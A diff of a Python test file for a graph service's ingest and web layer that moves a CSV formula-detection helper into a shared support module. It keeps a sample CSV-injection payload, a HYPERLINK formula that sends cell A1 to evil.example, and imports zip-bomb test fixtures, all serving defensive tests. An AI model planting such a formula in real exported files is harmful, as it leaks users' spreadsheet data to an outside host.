@@ -15,27 +15,14 @@ import zipfile
 import pytest
 
 from auth_helpers import PASSWORD, make_accounts
-from graphsvc.ingest.safe_write import FORMULA_TRIGGERS
 from graphsvc.model import Actor, Tie
 from graphsvc.stores.sqlite import SQLiteStore
 from hostile_files import a1_and_xfd, zip_bomb
+from ingest_support import formula_cells
 from web_support import assert_error, bearer, make_app, sign_in, signed_in
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
-
-def formula_cells(text: str) -> list[str]:
-    """Cells of a CSV a spreadsheet would run: text starting with = + - @,
-    tab or CR (a number such as -3 is a number)."""
-    out = []
-    for row in csv.reader(io.StringIO(text)):
-        for cell in row:
-            if cell.startswith(FORMULA_TRIGGERS):
-                try:
-                    float(cell)
-                except ValueError:
-                    out.append(cell)
-    return out
 
 
 # --- 1 and 5: bounded reading, no 5xx -------------------------------------------------
